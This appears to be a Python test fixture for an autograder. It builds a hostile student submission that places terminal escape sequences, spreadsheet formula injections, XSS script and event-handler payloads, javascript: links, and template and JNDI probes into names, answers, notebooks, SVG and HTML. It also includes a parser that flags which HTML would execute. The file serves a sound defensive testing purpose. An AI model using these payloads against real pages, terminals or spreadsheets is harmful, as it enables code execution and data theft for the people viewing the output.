"""Everything that a student's words could try to do where they are shown: to a terminal, a page, a table, a markdown
reader. One hand-in says all of it in every place where a student's words can stand.

    WORDS            terminal, rich markup, formulas, HTML, markdown, templates: the words of attacks 79 to 84
    ALL              all of them in one line
    write_hand_in(folder)   names, answers, report, notebook with outputs, SVG, HTML, file names, code that raises
    hostile_card()   a scorecard that says them in every field, without anything having run
    has_acted(text)  what of an HTML text would act: tags, attributes and links that only these words would bring

A script of theirs sets `window.owned` and the title to "owned by ..."; a picture or a link of theirs asks 127.0.0.1:9,
where nobody listens. tests/browser notices all three.
"""

import base64
import importlib.util
import json
import sys
from fractions import Fraction
from html.parser import HTMLParser
from pathlib import Path

from grader.model import (
    Adjustment,
    Finding,
    Outcome,
    Place,
    Problem,
    RuleScore,
    ScoreCard,
    Student,
    TaskScore,
    Visibility,
)

HERE = Path(__file__).parent
ELSEWHERE = "http://127.0.0.1:9"
OWN = "window.owned=1;document.title='owned by a student'"

WORDS = [
    "[/x]",
    "[bold green]PASS 100/100[/]",
    "[link=http://127.0.0.1:9/x]here[/link]",
    ":warning: [@click=app.bell]x[/]",
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[31m",
    "\x1b]8;;http://127.0.0.1:9/\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m\x9d0;x\x9c\x90q\x9c",
    "\u202e001/001\u2066\u200b\ufeff",
    "a\rb\x08\x08c\x7f",
    "\u2028\u2029\x85\x0b\x0c",
    "=cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd",
    '+HYPERLINK("http://127.0.0.1:9/?x="&A1,"here")',
    "-2+3",
    "\t=1+1",
    f"<script>{OWN}</script>\" onload='{OWN}' <svg/onload={OWN}>",
    f'\'"><img src=x onerror="{OWN}"><img src={ELSEWHERE}/seen.png>',
    f'</title></style></textarea></script><iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    f"![x]({ELSEWHERE}/x.png) [y](javascript:{OWN}) <javascript:{OWN}> [z](data:text/html;base64,PHNjcmlwdD4=)",
    "{{7*7}} {% raw %} ${jndi:x} %s %n {0} <!--#include file=x--> ]]> --> */",
    "\U0001f468\u200d\U0001f469 e" + "\u0301" * 40,
]
ALL = " ".join(WORDS)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{OWN}" width="40" height="40"><script>{OWN}</script>'
    f'<image href="{ELSEWHERE}/svg.png" width="9" height="9"/><a href="javascript:{OWN}"><circle r="9"/></a>'
    f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:{OWN}'/></foreignObject></svg>"
)
PAGE = (
    f"<!doctype html><html><head><base href='{ELSEWHERE}/'><meta http-equiv='refresh' content='0;url={ELSEWHERE}/'>"
    f"<link rel=stylesheet href='{ELSEWHERE}/x.css'><script>{OWN};parent.{OWN}</script></head>"
    f'<body onload="{OWN}"><form action=\'{ELSEWHERE}/\'><input autofocus onfocus="{OWN}"></form>{SVG}</body></html>'
)
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg==")


def notebook():
    """A notebook that tries it in markdown, in attachments, in outputs of every kind and in a traceback."""
    data = {
        "text/html": PAGE,
        "image/svg+xml": SVG,
        "application/javascript": OWN,
        "text/markdown": ALL,
        "text/latex": f"\\href{{javascript:{OWN}}}{{x}}",
        "text/plain": ALL,
    }
    outputs = [
        {"output_type": "display_data", "data": data, "metadata": {}},
        {"output_type": "stream", "name": "stdout", "text": ALL},
        {"output_type": "error", "ename": ALL, "evalue": ALL, "traceback": WORDS},
    ]
    cells = [
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": f"# {ALL}\n\n{PAGE}",
            "attachments": {ALL: {"text/html": PAGE}},
        },
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": PAGE},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": f"print({ALL!r})", "outputs": outputs},
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {"title": ALL, "authors": [{"name": ALL}]}, "cells": cells}


def _checkpoints():
    if "sent" not in sys.modules:
        spec = importlib.util.spec_from_file_location("sent", HERE / "test_checkpoints.py")
        sys.modules["sent"] = module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
    return sys.modules["sent"]


def file_name(word, number):
    """The word as a file may be called: no slash, no zero, not too long."""
    return f"{word.replace('/', '-')[:60]}{number}.txt"


def write_hand_in(folder, *, students=None):
    """The hand-in in an empty folder, for the assignment `digits`. `students` are those that it says it is of."""
    students = students or [{"id": "=1+1", "name": ALL}, {"id": "s2", "name": WORDS[0]}]
    (folder / "submission.json").write_text(json.dumps({"assignment": "digits", "students": students, ALL: ALL}))
    answers = dict.fromkeys(("total_parameters", "same_padding", "strided_size", "translation", "by_hand"), ALL)
    rows = [{"layer": ALL, "output": word, "parameters": word} for word in WORDS]
    answers |= {"layers": rows, "test_accuracy": ALL, ALL: ALL}
    (folder / "answers.json").write_text(json.dumps({"assignment": ALL, "answers": answers}))
    (folder / "model.py").write_text(
        f"print({ALL!r})\nraise type({ALL!r}[:300].replace(chr(0), ''), (Exception,), {{}})({ALL!r})\n"
    )
    made = _checkpoints()
    key = {ALL: made.tensor()}
    (folder / "model.pth").write_bytes(made.torch_file(made.state(**key)))
    (folder / "report.md").write_text("\n\n".join(f"accuracy {word} is 97.00% {word}" for word in WORDS))
    (folder / "notebook.ipynb").write_text(json.dumps(notebook()))
    (folder / "figure.svg").write_text(SVG)
    (folder / "page.html").write_text(PAGE)
    (folder / "picture.png").write_bytes(PNG)
    (folder / "not-a-picture.png").write_text(PAGE)
    (folder / "train.log").write_text("\n".join(f"epoch {n} loss 0.5 {word}" for n, word in enumerate(WORDS)))
    for number, word in enumerate(WORDS):
        (folder / file_name(word, number)).write_text("x")
    return folder


def hostile_card(submission="s0001", *, extra=0):
    """A card whose every text is hostile, with a rule for staff alone and points that wait; `extra` more findings."""
    zero, one = Fraction(0), Fraction(1)
    said = {"expected": ALL, "observed": ALL, "place": Place(ALL, pointer=f"/{ALL}", line=3), "fix": ALL, "code": "x-y"}
    findings = (
        Finding(Outcome.PASSED, ALL, one, rule="words", check="text", **said),
        Finding(Outcome.PARTIAL, ALL, Fraction(1, 2), rule="words", check="text", **said),
        Finding(Outcome.FAILED, ALL, zero, rule="words", check="text", **said),
        Finding(Outcome.UNKNOWN, ALL, rule="words", check="text", **said),
        Finding(Outcome.REVIEW, ALL, rule="words", check="text", **said),
        *(Finding(Outcome.FAILED, f"{n} {ALL}", zero, rule="words", check="text", **said) for n in range(extra)),
    )
    staff = Finding(
        Outcome.REVIEW, f"for staff alone {ALL}", rule="quiet", check="originality", visibility=Visibility.STAFF
    )
    rules = (
        RuleScore(
            "words", "text", one, Fraction(4), one, is_bonus=False, visibility=Visibility.STUDENT, findings=findings
        ),
        RuleScore(
            "quiet", "originality", zero, zero, zero, is_bonus=False, visibility=Visibility.STAFF, findings=(staff,)
        ),
    )
    task = TaskScore("1", ALL, one, Fraction(4), one, rules, note=ALL)
    return ScoreCard(
        submission=submission,
        assignment="digits",
        students=(Student(submission, ALL), Student("s2", WORDS[0])),
        rubric_digest="a" * 64,
        tasks=(task,),
        points=one,
        max_points=Fraction(4),
        open_points=one,
        problems=(Problem("odd", ALL, ALL, ALL),),
        pass_points=Fraction(2),
        made_with={"grader": "0.1.0"},
        adjustments=(Adjustment("late", ALL, needs_person=True),),
    )


class _Acts(HTMLParser):
    """Collects what would act if a browser showed it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attributes):
        for name, value in attributes:
            text = "".join(char for char in (value or "").lower() if char > " ")
            if name.startswith("on") or text.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.found.append(f"<{tag} {name}={value!r}>")
            if "127.0.0.1:9" in text and name in (
                "src",
                "href",
                "action",
                "xlink:href",
                "srcset",
                "background",
                "poster",
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("srcdoc", "formaction"):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag in ("base", "object", "embed", "foreignobject"):
            self.found.append(f"<{tag}>")

    def handle_data(self, data):
        if self.cdata_elem in ("script", "style") and "owned" in data:
            self.found.append(f"<{self.cdata_elem}>{data[:80]}")


def has_acted(text):
    """What of a page's text would act for a student: empty where their words are nothing but words."""
    parser = _Acts()
    parser.feed(text)
    parser.close()
    return parser.found
